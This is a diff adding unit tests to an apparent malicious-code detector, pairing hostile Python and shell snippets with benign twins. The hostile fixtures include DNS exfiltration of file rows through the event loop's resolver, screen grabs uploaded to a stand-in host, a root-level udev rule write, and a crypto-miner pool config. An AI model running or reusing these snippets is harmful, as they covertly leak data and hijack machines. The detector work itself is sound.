@@ -215,5 +215,122 @@ TEST(HundredAndFiftyFifthRoundClasses, EncodedFileContentsInChatMessagesAreSmugg
   for (const auto& c : cases) check(c);
 }
 
+// The event loop's own resolver (loop.getaddrinfo, reached by getattr) and
+// dnspython's and aiodns's asynchronous ones resolve names as
+// socket.getaddrinfo does: base32 of a database's rows in the labels is DNS
+// exfiltration. Twin: the loop resolving a configured host.
+TEST(HundredAndFiftyFifthRoundClasses, TheEventLoopsResolverLooksNamesUp) {
+  const Case cases[] = {
+      {"rows base32-encoded into names the event loop resolves", B,
+       "import asyncio, base64\n"
+       "async def beacon(path):\n"
+       "    loop = asyncio.get_running_loop()\n"
+       "    lookup = getattr(loop, 'getaddr' + 'info')\n"
+       "    for line in open(path):\n"
+       "        label = base64.b32encode(line.encode()).decode().rstrip('=').lower()[:50]\n"
+       "        await lookup(label + '.t.occuview.example', 53)\n"
+       "asyncio.run(beacon('permits.csv'))\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"the event loop resolving a configured host", L,
+       "import asyncio, os\n"
+       "async def check():\n"
+       "    loop = asyncio.get_running_loop()\n"
+       "    infos = await loop.getaddrinfo(os.environ.get('DB_HOST', 'db.internal.example'), 5432)\n"
+       "    print(len(infos), 'addresses')\n"
+       "asyncio.run(check())\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// asyncio.to_thread(fn, ...) and loop.run_in_executor(None, fn, ...) give
+// back what fn returns (library-model.yaml's `returns: callback`): a screen
+// grabbed in a worker thread and posted had been lost at the hand-back.
+// Twin: a file's checksum computed in a thread and posted to the project's
+// own API.
+TEST(HundredAndFiftyFifthRoundClasses, AThreadsResultComesBack) {
+  const Case cases[] = {
+      {"a screen grabbed in a thread and uploaded", B,
+       "import asyncio, httpx, mss\n"
+       "def grab():\n"
+       "    with mss.mss() as sct:\n"
+       "        return sct.grab(sct.monitors[0]).rgb\n"
+       "async def main():\n"
+       "    frame = await asyncio.to_thread(grab)\n"
+       "    async with httpx.AsyncClient() as client:\n"
+       "        await client.post('https://frames.opsrelay.example/f', files={'file': ('a.jpg', frame)})\n"
+       "asyncio.run(main())\n",
+       "EXFILTRATION"},
+      {"the same through run_in_executor", B,
+       "import asyncio, httpx, mss\n"
+       "def grab(scale):\n"
+       "    with mss.mss() as sct:\n"
+       "        return sct.grab(sct.monitors[0]).rgb\n"
+       "async def main():\n"
+       "    frame = await asyncio.get_running_loop().run_in_executor(None, grab, 0.5)\n"
+       "    httpx.post('https://frames.opsrelay.example/f', content=frame)\n"
+       "asyncio.run(main())\n",
+       "EXFILTRATION"},
+      {"a checksum computed in a thread and posted to its own API", L,
+       "import asyncio, hashlib, httpx\n"
+       "def digest(path):\n"
+       "    return hashlib.sha256(open(path, 'rb').read()).hexdigest()\n"
+       "async def main():\n"
+       "    d = await asyncio.to_thread(digest, 'build/app.tar.gz')\n"
+       "    httpx.post('https://releases.example.com/api/checksums', json={'sha256': d})\n"
+       "asyncio.run(main())\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// "${as_root[@]}" "$@" with as_root=() (the script already runs as root) is
+// no word at all, quoted as it is: the command is the next word (tee), not an
+// empty name. Twin: the same helper writing a file of the working tree.
+TEST(HundredAndFiftyFifthRoundClasses, AnEmptyArraysItemsAreNoWord) {
+  const Case cases[] = {
+      {"a udev rule written through an empty sudo prefix", H, R"sh(#!/bin/bash
+as_root=( sudo )
+[ "$(id -u)" -eq 0 ] && as_root=()
+priv() { "${as_root[@]}" "$@"; }
+printf '%s\n' 'SUBSYSTEM=="tty", MODE="0660"' | priv tee /etc/udev/rules.d/99-scale.rules >/dev/null
+)sh",
+       "SYSTEM-MODIFICATION", Sh},
+      {"the same helper writing a file of the working tree", L, R"sh(#!/bin/bash
+as_root=()
+priv() { "${as_root[@]}" "$@"; }
+printf '%s\n' 'SUBSYSTEM=="tty", MODE="0660"' | priv tee ./99-scale.rules >/dev/null
+)sh",
+       nullptr, Sh},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// dataclasses.asdict turns the dataclass instances inside a field (a list of
+// Endpoint) into dicts, and json.dumps of one of several strings writes what
+// they share ("stratum+tcp://…"): a miner's pool list written to its config
+// file had been "…". Twin: the same shape listing HTTPS mirrors.
+TEST(HundredAndFiftyFifthRoundClasses, NestedDataclassesBecomeTheirFields) {
+  const char* program =
+      "import json\n"
+      "from dataclasses import dataclass, field, asdict\n"
+      "@dataclass\n"
+      "class Endpoint:\n"
+      "    url: str\n"
+      "    user: str\n"
+      "@dataclass\n"
+      "class Config:\n"
+      "    pools: list = field(default_factory=list)\n"
+      "scheme = 'stratum' + '+tcp://'\n"
+      "cfg = Config(pools=[Endpoint(url=scheme + h, user='w1') for h in ['pool.hashharbor.example:3333', '203.0.113.90:5555']])\n"
+      "with open('engine.json', 'w') as fh:\n"
+      "    fh.write(json.dumps(asdict(cfg)))\n";
+  std::string mirrors = program;
+  mirrors.replace(mirrors.find("'stratum' + '+tcp://'"), 21, "'https://'");
+  const Case cases[] = {
+      {"a miner's pools written to its config through asdict", B, program, "CRYPTO-MINER"},
+      {"the same shape listing HTTPS mirrors", L, mirrors.c_str()},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
